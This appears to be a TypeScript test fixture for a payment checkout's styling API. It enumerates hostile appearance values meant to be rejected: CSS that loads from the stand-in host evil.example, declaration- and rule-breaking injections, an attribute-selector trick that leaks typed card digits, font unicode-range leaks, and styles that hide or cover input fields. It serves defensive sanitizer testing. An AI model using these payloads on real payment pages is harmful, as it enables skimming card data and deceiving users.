/** Two hundred appearances that try to inject CSS, to cover or hide fields, and to send what is typed elsewhere. */
import type { Appearance } from '@paykka-checkout/shared-types'

const EVIL = 'https://evil.example/leak'

/** Values that would request something. */
const FETCHES = [
  `url(${EVIL})`,
  `url("${EVIL}")`,
  `URL( '${EVIL}' )`,
  `u\\72 l(${EVIL})`,
  `image-set("${EVIL}" 1x)`,
  `-webkit-image-set(url(${EVIL}) 1x)`,
  `cross-fade(url(${EVIL}), red)`,
  `image(${EVIL})`,
  `src("${EVIL}")`,
  `element(#number)`,
  `paint(leak)`,
  `red url(${EVIL})`,
  `light-dark(url(${EVIL}), red)`,
  `color-mix(in srgb, url(${EVIL}) 10%, red)`,
  `attr(value)`,
  `attr(value type(<color>))`,
  `env(safe-area-inset-top)`,
  `var(--paykka-color-brand, url(${EVIL}))`,
  `expression(alert(1))`,
  `@import "${EVIL}"`,
]

/** Values that would end their declaration or their rule. */
const INJECTIONS = [
  `red; background: url(${EVIL})`,
  `red;}*{display:none!important}`,
  `red}input[value^="4"]{background:url(${EVIL}?4)}`,
  `red /* */; position: fixed`,
  `red !important`,
  `red\\; display: none`,
  `red</style><img src=${EVIL}>`,
  `red\n;display:none`,
  `red\u0000;display:none`,
  '{display:none}',
  `"a" } @font-face { font-family: x; src: url(${EVIL}) }`,
  `rgb(0,0,0);visibility:hidden`,
]

/** Names of properties that would hide, move or cover. */
const PROPERTIES: Record<string, string> = {
  display: 'none',
  visibility: 'hidden',
  opacity: '0',
  position: 'fixed',
  inset: '0',
  top: '-9999px',
  left: '-9999px',
  transform: 'scale(0)',
  translate: '9999px',
  scale: '0',
  rotate: '180deg',
  zoom: '0.01',
  'clip-path': 'inset(100%)',
  clip: 'rect(0 0 0 0)',
  'mask-image': `url(${EVIL})`,
  filter: 'opacity(0)',
  'backdrop-filter': 'blur(99px)',
  'z-index': '99999',
  width: '0',
  height: '0',
  'max-width': '0',
  'max-height': '0',
  'inline-size': '1px',
  'block-size': '1px',
  overflow: 'hidden',
  content: '"covered"',
  cursor: 'none',
  'pointer-events': 'none',
  'background-image': `url(${EVIL})`,
  'border-image': `url(${EVIL}) 30`,
  'list-style-image': `url(${EVIL})`,
  'text-indent': '-9999px',
  'text-shadow': '0 0 99px #000',
  animation: 'hide 1s',
  float: 'left',
  order: '-1',
  'grid-area': '1 / 1',
  direction: 'rtl',
  'writing-mode': 'vertical-rl',
  '-webkit-text-security': 'disc',
  '-webkit-text-fill-color': 'transparent',
  'caret-shape': 'block',
  all: 'unset',
  '--paykka-color-text': 'transparent',
  src: `url(${EVIL})`,
}

/** Allowed properties with sizes that would hide or cover. */
const SIZES: Record<string, string> = {
  'font-size': '0',
  'letter-spacing': '-99px',
  'line-height': '0',
  padding: '9999px',
  'padding-inline': '500px',
  'padding-block': '200px',
  margin: '-9999px',
  'margin-block': '-200px',
  gap: '9999px',
  border: '9999px solid #000',
  'border-width': '500px',
  'border-top-width': '200px',
  outline: '9999px solid #000',
  'outline-width': '500px',
  'outline-offset': '-500px',
  'box-shadow': '0 0 0 9999px #000',
  'border-radius': '-5px',
  'transition-duration': '9999s',
}
const SHADOWS = [
  'inset 0 0 0 9999px #000',
  'inset 0 0 500px 500px #fff',
  '0 200px 0 0 #000',
  '0 -60px 0 0 #fff',
  '-300px 0 0 0 #fff',
  '300px 0 0 #fff',
  '0 0 999px 999px #fff',
  '0 0 0 40px #fff, 0 0 0 80px #fff',
  '0 0 #fff, 0 0 #fff, 0 0 #fff, 0 0 0 500px #fff',
]

/** Colors in which nobody could read a text. */
const INVISIBLE: readonly (readonly [string, string])[] = [
  ['#fff', '#fff'],
  ['#000', '#000'],
  ['transparent', '#fff'],
  ['#0000', '#fff'],
  ['rgb(0 0 0 / 0)', 'white'],
  ['rgb(255 255 255 / 90%)', '#fefefe'],
  ['currentcolor', 'currentcolor'],
  ['light-dark(#fff, #000)', 'light-dark(#fff, #000)'],
  ['oklch(100% 0 0)', 'white'],
  ['hsl(0 0% 97%)', 'color-mix(in srgb, white 98%, black)'],
]

/** Rules whose names are other selectors. */
const SELECTORS = [
  'input[value^="4"]',
  'input[id="number"]',
  '#number',
  '*',
  ':host',
  'input, .field',
  'input:focus{}*',
  'input::before',
  'input:has(+ *)',
  'input:not(x)',
  'input:nth-child(1)',
  'input ',
  'input:focus, .holder',
  '@font-face',
  '@import url(x)',
  'constructor',
  '__proto__',
  'toString',
]

const FONTS: readonly unknown[] = [
  { family: 'x', src: `${EVIL}.woff2` },
  { family: 'x', src: '//evil.example/leak.woff2' },
  { family: 'x', src: `${EVIL}.woff2`, unicodeRange: 'U+34' },
  { family: 'x', src: '/leak.woff2?digit=4' },
  { family: 'x', src: `${EVIL}.woff2#4`, 'unicode-range': 'U+0034' },
  { family: 'x"; src: url(x)', src: '/leak.woff2' },
  { family: 'x', src: `/a.woff2"), url("${EVIL}` },
  { family: 'x', src: 'data:font/woff2;base64,leak.woff2' },
  { family: 'x', src: 'javascript:leak.woff2' },
  { family: 'x', src: 'blob:https://evil.example/leak.woff2' },
  { family: 'x', src: 'https://user:pass@evil.example/leak.woff2' },
  { family: 'x', src: `https://evil.example@${location.host}.evil.example/leak.woff2` },
  'leak',
  null,
]

const JUNK: readonly unknown[] = [
  { rules: [] },
  { rules: 'input{display:none}' },
  { tokens: 'x' },
  { rules: { input: 'display:none' } },
  { rules: { input: [['display', 'none']] } },
  { css: `@import url(${EVIL})` },
  { labels: 'hidden' },
  { density: '-1' },
  { holder: 'hidden; display:none' },
  { iconStyle: `url(${EVIL})` },
]

/** Fields in each text color, and the parts that have texts. */
const colored = (part: string, [color, background]: readonly [string, string]) => ({
  rules: { [part]: { color, 'background-color': background } },
})

const parts = ['input', 'label', 'error', 'field', 'button', 'tab', 'input:focus', 'input:complete'] as const
const on = (index: number): string => parts[index % parts.length] ?? 'input'

/** All of them, each with a name. */
export const HOSTILE_LOOKS: readonly (readonly [name: string, look: Appearance])[] = [
  ...FETCHES.map((value, at) => [
    'fetch',
    { rules: { [on(at)]: { 'background-color': value, background: value } } },
  ]),
  ...FETCHES.map((value) => ['token', { tokens: { 'color-field': value, 'font-family': value } }]),
  ...INJECTIONS.map((value, at) => [
    'inject',
    { rules: { [on(at)]: { color: value, 'font-family': value } } },
  ]),
  ...INJECTIONS.map((value) => ['inject token', { tokens: { 'color-brand': value, radius: value } }]),
  ...Object.entries(PROPERTIES).map(([name, value]) => [
    'property',
    { rules: { input: { [name]: value }, field: { [name]: value } } },
  ]),
  ...Object.entries(SIZES).map(([name, value]) => [
    'size',
    { rules: { input: { [name]: value }, label: { [name]: value } } },
  ]),
  ...SHADOWS.map((value) => [
    'shadow',
    { rules: { input: { 'box-shadow': value }, field: { 'box-shadow': value } } },
  ]),
  ...INVISIBLE.map((pair) => ['invisible field', colored('input', pair)]),
  ...INVISIBLE.map((pair) => ['invisible when focused', colored('input:focus', pair)]),
  ...INVISIBLE.map(([color, background]) => [
    'invisible tokens',
    { tokens: { 'color-text': color, 'color-field': background, 'color-surface': background } },
  ]),
  ...SELECTORS.map((rule) => [
    'selector',
    { rules: { [rule]: { 'background-color': `url(${EVIL})`, color: 'transparent' } } },
  ]),
  ...FONTS.map((font) => ['font', { fonts: [font], tokens: { 'font-family': 'x' } }]),
  ...JUNK.map((look) => ['junk', look]),
].map(([name, look], at) => [`${at + 1}: ${name} ${JSON.stringify(look).slice(0, 90)}`, look as Appearance])
